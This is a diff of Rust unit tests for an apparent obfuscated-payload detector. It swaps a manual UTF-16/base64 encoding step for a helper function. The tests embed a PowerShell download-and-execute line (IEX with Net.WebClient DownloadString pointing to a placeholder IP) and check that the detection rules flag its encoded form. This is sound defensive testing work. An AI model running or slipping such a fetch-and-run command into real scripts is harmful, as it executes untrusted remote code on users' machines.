@@ -250,10 +250,9 @@ tags:
             RulesOn::Submitted,
         );
         let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.1/a')";
-        let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
         let text = format!(
             "powershell -enc {}",
-            warden_payload::deobf::codec::to_base64(&utf16)
+            warden_payload::deobf::codec::encoded_command(script)
         );
         let v = a.analyze(&text, None);
         let hit = v
@@ -292,10 +291,9 @@ tags:
             Vec::<usize>::new()
         );
         // Encoded, the rule sees what the event hid.
-        let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
         let text = format!(
             "powershell -enc {}",
-            warden_payload::deobf::codec::to_base64(&utf16)
+            warden_payload::deobf::codec::encoded_command(script)
         );
         assert_eq!(sigma(&text), vec![1]);
     }
